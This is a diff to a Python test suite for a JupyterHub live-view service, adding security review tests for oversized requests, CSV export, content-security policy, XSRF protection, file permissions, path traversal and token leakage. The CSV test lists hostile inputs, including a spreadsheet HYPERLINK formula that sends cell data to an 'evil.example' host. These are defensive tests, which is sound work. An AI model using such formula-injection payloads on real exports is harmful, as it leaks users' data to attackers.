@@ -8,8 +8,11 @@ makes (a token -> its owner). On the real hub, the same is exercised end to end 
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
+import re
 import socket
 import sys
 import threading
@@ -31,6 +34,8 @@ TRAINER_SCOPES = ["access:services!service=live-view", liveview.SCOPE]
 TOKENS = {
     "t-p1": {"kind": "user", "name": "p1", "scopes": ["users:activity!user=p1", "access:servers!server=p1/"]},
     "t-p2": {"kind": "user", "name": "p2", "scopes": ["access:services!service=live-view"]},
+    "t-p3": {"kind": "user", "name": "p3", "scopes": ["access:services!service=live-view"]},
+    "t-p4": {"kind": "user", "name": "p4", "scopes": ["access:services!service=live-view"]},
     "t-trainer": {"kind": "user", "name": "trainer", "scopes": TRAINER_SCOPES},
     "t-service": {"kind": "service", "name": "idle-culler", "scopes": TRAINER_SCOPES},
 }
@@ -126,7 +131,7 @@ def test_the_page_shows_exercises_in_notebook_order_and_the_rooms_common_failure
 
 def test_export_is_csv_of_every_event_and_holds_no_token(service):
     assert service.post("t-p1", event()).status_code == 204
-    text = service.get("export.csv", "t-trainer").text
+    text = service.get("export.csv", "t-trainer").content.decode("utf-8-sig")
     header, *rows = text.strip().splitlines()
     assert header == "time_utc,username,assignment,exercise,status,kind,message"
     assert rows and all(",p1," in row for row in rows)
@@ -235,19 +240,33 @@ def test_an_event_names_the_exercise_and_the_kind_never_the_code():
 class Receiver:
     """A live view stand-in: records posts, or holds every request without answering (`hang`)."""
 
-    def __init__(self, hang: bool = False):
+    def __init__(self, hang: bool = False, statuses: list[int] | None = None, redirect: str | None = None):
         self.events, self.hang, self.arrived = [], hang, threading.Event()
         self.release = threading.Event()
+        self.statuses, self.redirect, self.requests = list(statuses or []), redirect, []
         receiver = self
 
         class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                receiver.requests.append(("GET", self.path, self.headers.get("Authorization")))
+                self.send_response(204)
+                self.end_headers()
+
             def do_POST(self):
+                receiver.requests.append(("POST", self.path, self.headers.get("Authorization")))
                 body = self.rfile.read(int(self.headers["Content-Length"]))
                 receiver.events.append((self.headers["Authorization"], json.loads(body)))
                 receiver.arrived.set()
                 if receiver.hang:
                     receiver.release.wait(30)
-                self.send_response(204)
+                if receiver.redirect:
+                    self.send_response(302)
+                    self.send_header("Location", receiver.redirect)
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
+                self.send_response(receiver.statuses.pop(0) if receiver.statuses else 204)
+                self.send_header("Content-Length", "0")
                 self.end_headers()
 
             def log_message(self, *args):
@@ -270,7 +289,13 @@ def fresh_sender(monkeypatch):
     monkeypatch.setattr(live, "_thread", None)
     monkeypatch.setenv("JUPYTERHUB_API_TOKEN", "kernel-token")
     monkeypatch.delenv("NBGRADER_EXECUTION", raising=False)
-    return live
+    yield live
+    # this test's thread may still hold events: empty its queue, so it posts none into the next test
+    while True:
+        try:
+            live._queue.get_nowait()
+        except live.queue.Empty:
+            break
 
 
 def test_a_check_cell_in_a_kernel_reports_itself_with_the_servers_token(fresh_sender, monkeypatch, tmp_path):
@@ -331,3 +356,337 @@ def test_when_the_live_view_is_down_events_are_dropped_not_queued(fresh_sender, 
     assert live._paused_until > time.monotonic(), "a refused post should pause sending"
     live.send(event())
     assert live._queue.qsize() == 0 and live.dropped >= before + 2
+
+
+# --- review: what a hostile or unlucky sender, page or spreadsheet can do ------------------------
+def test_an_oversized_body_is_refused_before_it_is_read(service):
+    # anyone who reaches the port (no token needed) must not make the service buffer a large body
+    host, port = service.url.split("/")[2].split(":")
+    with socket.create_connection((host, int(port)), timeout=5) as s:
+        s.sendall(b"POST /services/live-view/api/events HTTP/1.1\r\nHost: x\r\nContent-Length: 50000000\r\n\r\n")
+        try:
+            answer = s.recv(100)
+        except TimeoutError:
+            answer = b""
+    assert answer.startswith(b"HTTP/1.1 4"), "the service waited for a 50 MB body"
+
+
+def test_text_the_database_cannot_hold_or_json_too_deep_is_refused_or_cleaned_never_a_500(service):
+    # a message with a lone surrogate (a file name's undecodable bytes, surrogateescape) is kept, cleaned
+    posted = service.post("t-p1", event(message="could not open '\udcff.csv'", assignment="zz-review-text"))
+    assert posted.status_code == 204, posted.text
+    state = service.get("api/state?assignment=zz-review-text", "t-trainer").json()
+    assert state["participants"][0]["cells"]["engagement"]["message"].startswith("could not open")
+    import requests
+
+    deep = requests.post(service.url + "api/events", data="[" * 8000, timeout=10,
+                         headers={"Authorization": "token t-p1"})
+    assert deep.status_code == 400, deep.text
+
+
+def test_export_neutralises_spreadsheet_formulas_and_opens_in_excel_as_utf8(service):
+    # trainers open export.csv in Excel: a cell starting with = + - @ (or a tab, a CR) would be a formula
+    nasty = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", " =1+1",
+             "संकेत: ठीक करें"]
+    for message in nasty:
+        assert service.post("t-p1", event(exercise="-1+1", message=message, assignment="zz-review-csv")
+                             ).status_code == 204
+    response = service.get("export.csv", "t-trainer")
+    assert response.content.startswith(b"\xef\xbb\xbf"), "no BOM: Excel shows the Hindi messages garbled"
+    rows = [row for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
+            if row[2] == "zz-review-csv"]
+    assert len(rows) == len(nasty)
+    for row in rows:
+        for cell in row[1:]:
+            assert not re.match(r"\s*[=+\-@]", cell) and not cell.startswith(("\t", "\r")), row
+    assert {row[6] for row in rows} >= {"'+1+1", "'-2+3", "संकेत: ठीक करें"}
+    assert {row[3] for row in rows} == {"'-1+1"}
+
+
+def test_a_participant_cannot_grow_the_view_without_bound(service):
+    # names are free text: one participant posting ever new assignments or exercises would grow the
+    # service's memory, the database, the drop-down and the grid for every trainer
+    for number in range(liveview.MAX_ASSIGNMENTS):
+        assert service.post("t-p3", event(assignment=f"zz-junk-{number:03d}")).status_code == 204
+    refused = service.post("t-p3", event(assignment="zz-junk-one-more"))
+    assert refused.status_code == 400 and "assignments" in refused.text
+    assert service.post("t-p3", event(assignment="zz-junk-000", status="passed")).status_code == 204, \
+        "an assignment already reported is still taken"
+    for number in range(liveview.MAX_EXERCISES):
+        assert service.post("t-p4", event(exercise=f"x{number:03d}", assignment="zz-junk-ex")).status_code == 204
+    refused = service.post("t-p4", event(exercise="one_more", assignment="zz-junk-ex"))
+    assert refused.status_code == 400 and "exercises" in refused.text
+    assert service.post("t-p4", event(exercise="x000", assignment="zz-junk-ex", status="passed")).status_code == 204
+
+
+def test_pages_and_answers_allow_no_script_but_the_pages_own_and_no_sniffing(service):
+    page = service.get("", "t-trainer")
+    policy = page.headers["Content-Security-Policy"]
+    script_src = next(d for d in policy.split(";") if d.strip().startswith("script-src"))
+    assert "'unsafe-inline'" not in script_src, policy
+    nonces = re.findall(r'<script nonce="([^"]+)">', page.text)
+    assert len(nonces) == 1 and f"'nonce-{nonces[0]}'" in script_src
+    assert page.text.count("<script") == 1
+    assert service.get("", "t-trainer").text != page.text, "the nonce is the same on every load"
+    for response in (page, service.get("api/state", "t-trainer"), service.get("export.csv", "t-trainer"),
+                     service.get("", "t-p2"), service.post("t-p1", [1])):
+        assert response.headers.get("X-Content-Type-Options") == "nosniff", response.url
+
+
+class SlowHub:
+    """The hub's GET /hub/api/user, answering some tokens only after `delays[token]` seconds."""
+
+    def __init__(self, tokens: dict, delays: dict):
+        hub = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self):
+                token = self.headers.get("Authorization", "").partition(" ")[2]
+                time.sleep(delays.get(token, 0))
+                model = tokens.get(token)
+                body = json.dumps(model or {"status": 403}).encode()
+                self.send_response(200 if model else 403)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        hub.calls = 0
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_a_slow_hub_answering_for_a_trainer_does_not_hold_up_participants_posts(tmp_path):
+    hub = SlowHub(TOKENS, {"t-trainer": 3.0})
+    process = LiveViewProcess(hub, tmp_path / "live.sqlite")
+    try:
+        assert process.post("t-p1", event()).status_code == 204  # p1's token: looked up, then cached
+        reading = threading.Thread(target=process.get, args=("api/state", "t-trainer"))
+        reading.start()
+        time.sleep(0.5)  # the trainer's lookup is under way
+        start = time.monotonic()
+        assert process.post("t-p1", event()).status_code == 204
+        took = time.monotonic() - start
+        reading.join()
+    finally:
+        process.close()
+        hub.close()
+    assert took < 1.5, f"a participant's post waited {took:.1f} s for the hub's answer about the trainer"
+
+
+# --- review: a trainer's browser, its cookie and the page's XSRF token (in this process) ---------
+@pytest.fixture
+def in_process(monkeypatch, tmp_path):
+    """The service's app in a thread of this process, so a test can sign the login cookie the hub's
+    OAuth would have set (the app's cookie secret is at hand here)."""
+    import asyncio
+    from types import SimpleNamespace
+
+    from jupyterhub.services.auth import HubOAuth
+    from tornado.httpserver import HTTPServer
+    from tornado.netutil import bind_sockets
+
+    hub = StubHubAPI(TOKENS)
+    prefix = "/services/live-view/"
+    for name, value in {
+        "JUPYTERHUB_API_URL": f"{hub.url}/hub/api", "JUPYTERHUB_API_TOKEN": "service-token",
+        "JUPYTERHUB_BASE_URL": "/", "JUPYTERHUB_HOST": "", "JUPYTERHUB_SERVICE_NAME": "live-view",
+        "JUPYTERHUB_SERVICE_PREFIX": prefix, "JUPYTERHUB_CLIENT_ID": "service-live-view",
+        "JUPYTERHUB_OAUTH_CALLBACK_URL": f"{prefix}oauth_callback",
+        "JUPYTERHUB_OAUTH_ACCESS_SCOPES": json.dumps(["access:services!service=live-view"]),
+    }.items():
+        monkeypatch.setenv(name, value)
+    HubOAuth.clear_instance()
+    sockets = bind_sockets(0, "127.0.0.1")
+    loop = asyncio.new_event_loop()
+    made, ready = {}, threading.Event()
+
+    def serve():
+        asyncio.set_event_loop(loop)
+        made["store"] = liveview.Store(str(tmp_path / "live.sqlite"))  # sqlite: used by this thread only
+        made["app"] = liveview.make_app(made["store"], prefix=prefix, course_dir=None, stuck_minutes=5,
+                                        idle_minutes=10)
+        HTTPServer(made["app"]).add_sockets(sockets)
+        loop.call_soon(ready.set)
+        loop.run_forever()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    assert ready.wait(10)
+    url = f"http://127.0.0.1:{sockets[0].getsockname()[1]}{prefix}"
+
+    def login_cookie(token: str) -> str:
+        from tornado.web import create_signed_value
+
+        return create_signed_value(made["app"].settings["cookie_secret"], "service-live-view", token).decode()
+
+    try:
+        yield SimpleNamespace(url=url, login_cookie=login_cookie, hub=hub)
+    finally:
+        loop.call_soon_threadsafe(loop.stop)
+        thread.join(10)
+        HubOAuth.clear_instance()
+        hub.close()
+
+
+def browser_session(in_process, token: str):
+    """(cookies, xsrf) of a browser logged in as `token`'s owner that has opened the page."""
+    import requests
+
+    cookies = {"service-live-view": in_process.login_cookie(token)}
+    page = requests.get(in_process.url, cookies=cookies, timeout=10, allow_redirects=False)
+    xsrf = re.search(r'const XSRF = "([^"]+)"', page.text)
+    return page, {**cookies, **page.cookies.get_dict()}, xsrf.group(1) if xsrf else None
+
+
+def test_delete_takes_the_pages_xsrf_token_and_the_trainers_scope(in_process):
+    import requests
+
+    assert requests.post(in_process.url + "api/events", json=event(), timeout=10,
+                         headers={"Authorization": "token t-p1"}).status_code == 204
+
+    def kept() -> int:
+        page, cookies, xsrf = browser_session(in_process, "t-trainer")
+        state = requests.get(in_process.url + "api/state", cookies=cookies, timeout=10,
+                             headers={"X-XSRFToken": xsrf, "Sec-Fetch-Mode": "cors"})
+        assert state.status_code == 200, state.text
+        return sum(len(row["cells"]) for row in state.json()["participants"])
+
+    page, cookies, xsrf = browser_session(in_process, "t-trainer")
+    assert page.status_code == 200 and xsrf
+    # another site's form or script, riding on the trainer's cookie, has no XSRF token
+    forged = requests.post(in_process.url + "api/delete", cookies=cookies, timeout=10, allow_redirects=False,
+                           headers={"Sec-Fetch-Mode": "navigate", "Sec-Fetch-Site": "cross-site"})
+    assert forged.status_code == 403 and kept() == 1
+    # nor may a script read the state without it
+    assert requests.get(in_process.url + "api/state", cookies=cookies, timeout=10, allow_redirects=False,
+                        headers={"Sec-Fetch-Mode": "cors"}).status_code != 200
+    # a participant, logged in (access:services) and with their own page's token, is still refused
+    page, p2_cookies, p2_xsrf = browser_session(in_process, "t-p2")
+    assert page.status_code == 403 and "this page is for trainers" in page.text
+    p2_xsrf = p2_xsrf or xsrf
+    refused = requests.post(in_process.url + "api/delete", cookies=p2_cookies, timeout=10,
+                            headers={"X-XSRFToken": p2_xsrf, "Sec-Fetch-Mode": "cors"}, allow_redirects=False)
+    assert refused.status_code == 403 and kept() == 1
+    # the page's own button: the trainer's cookie and the page's token
+    deleted = requests.post(in_process.url + "api/delete", cookies=cookies, timeout=10,
+                            headers={"X-XSRFToken": xsrf, "Sec-Fetch-Mode": "cors"})
+    assert deleted.status_code == 200 and deleted.json() == {"deleted": 1} and kept() == 0
+
+
+# --- review: what the service keeps on disk -----------------------------------------------------
+def test_deleted_and_purged_events_leave_no_trace_on_disk(tmp_path):
+    folder = tmp_path / "state"
+    store = liveview.Store(str(folder / "s.sqlite"), keep_days=30)
+    now = time.time()
+    for number in range(50):
+        store.add("p1", "a", "x", "failed", "wrong", f"OLD-MESSAGE-{number}", at=now - 40 * 86400)
+        store.add("p1", "a", "y", "failed", "wrong", f"KEPT-MESSAGE-{number}", at=now - 86400)
+
+    def on_disk(text: str) -> list[str]:
+        return [path.name for path in folder.iterdir() if text.encode() in path.read_bytes()]
+
+    assert store.purge(now) == 50
+    assert on_disk("OLD-MESSAGE") == [], "purged events are still in the database's files"
+    assert on_disk("KEPT-MESSAGE")
+    assert store.delete_all() == 50
+    assert on_disk("KEPT-MESSAGE") == [], "deleted events are still in the database's files"
+
+
+def test_a_database_readable_by_others_is_made_private_again(tmp_path):
+    folder = tmp_path / "new-state"
+    path = folder / "s.sqlite"
+    liveview.Store(str(path)).add("p1", "a", "x", "passed", "", "")
+    assert os.stat(folder).st_mode & 0o077 == 0, "a folder it creates for personal data is open to others"
+    for suffix in ("", "-wal", "-shm"):
+        if Path(f"{path}{suffix}").exists():
+            os.chmod(f"{path}{suffix}", 0o644)  # as copied, restored from a backup, made by an older version
+    store = liveview.Store(str(path))
+    store.add("p1", "a", "x", "failed", "wrong", "m")
+    for suffix in ("", "-wal", "-shm"):
+        assert os.stat(f"{path}{suffix}").st_mode & 0o077 == 0, suffix
+
+
+def test_the_release_lookup_stays_in_the_release_folder_and_survives_odd_notebooks(tmp_path):
+    course = tmp_path / "course"
+    (course / "release" / "a").mkdir(parents=True)
+    notebook = json.dumps({"cells": [{"cell_type": "code", "source": "passed('outside')"}]})
+    (course / "secret.ipynb").write_text(notebook)
+    (course / "release" / "a" / "a.ipynb").write_text(notebook)
+    for name in ("..", ".", str(tmp_path / "course"), "../release/a", ""):
+        assert liveview.release_exercises(str(course), name) == [], name
+    assert liveview.release_exercises(str(course), "a") == ["outside"]
+    (course / "release" / "a" / "b.ipynb").write_text("[1, 2]")  # JSON, but not a notebook
+    (course / "release" / "a" / "c.ipynb").write_text(json.dumps({"cells": ["not a cell", None]}))
+    assert liveview.release_exercises(str(course), "a") == ["outside"]
+
+
+# --- review: the kernel's side ------------------------------------------------------------------
+def test_the_token_never_goes_through_a_proxy_or_follows_a_redirect(fresh_sender, monkeypatch):
+    proxy, elsewhere = Receiver(), Receiver()
+    receiver = Receiver()
+    redirecting = Receiver(redirect=elsewhere.url + "api/events")
+    try:
+        # a proxy in the environment (common on government networks) must not see the token
+        for name in ("http_proxy", "HTTP_PROXY"):
+            monkeypatch.setenv(name, proxy.url.rsplit("/services", 1)[0])
+        for name in ("no_proxy", "NO_PROXY"):
+            monkeypatch.delenv(name, raising=False)
+        monkeypatch.setenv("SML_LIVE_VIEW_URL", receiver.url)
+        live.send(event())
+        deadline = time.monotonic() + 10
+        while not (receiver.requests or proxy.requests) and time.monotonic() < deadline:
+            time.sleep(0.02)
+        assert proxy.requests == [] and len(receiver.requests) == 1
+        # nor a redirect: urllib would re-send the Authorization header to wherever it points
+        monkeypatch.setenv("SML_LIVE_VIEW_URL", redirecting.url)
+        live.send(event())
+        deadline = time.monotonic() + 10
+        while not redirecting.requests and time.monotonic() < deadline:
+            time.sleep(0.02)
+        time.sleep(0.3)
+        assert redirecting.requests and elsewhere.requests == []
+    finally:
+        for one in (proxy, elsewhere, receiver, redirecting):
+            one.close()
+
+
+def test_an_event_the_live_view_refuses_drops_only_itself(fresh_sender, monkeypatch):
+    # e.g. a notebook in a folder whose name the service does not take (Hindi, a comma): that event is
+    # refused (400); the next check cells must still be reported, not dropped for a minute
+    receiver = Receiver(statuses=[400])
+    monkeypatch.setenv("SML_LIVE_VIEW_URL", receiver.url)
+    try:
+        live.send(event(assignment="नोट्स"))
+        deadline = time.monotonic() + 10
+        while not receiver.events and time.monotonic() < deadline:
+            time.sleep(0.02)
+        time.sleep(0.2)
+        live.send(event())
+        while len(receiver.events) < 2 and time.monotonic() < deadline:
+            time.sleep(0.02)
+    finally:
+        receiver.close()
+    assert len(receiver.events) == 2 and live._paused_until == 0.0
+
+
+def test_a_bad_live_view_url_never_prints_into_the_notebook(fresh_sender, monkeypatch):
+    # a thread's uncaught exception is printed on stderr, which a kernel shows under the running cell
+    raised = []
+    monkeypatch.setattr(threading, "excepthook", lambda args: raised.append(args.exc_value))
+    monkeypatch.setenv("SML_LIVE_VIEW_URL", "proxy-public/services/live-view/")  # no scheme
+    before = live.dropped
+    live.send(event())
+    deadline = time.monotonic() + 5
+    while live.dropped == before and not raised and time.monotonic() < deadline:
+        time.sleep(0.02)
+    assert raised == [] and live.dropped == before + 1
+    assert live._thread.is_alive()
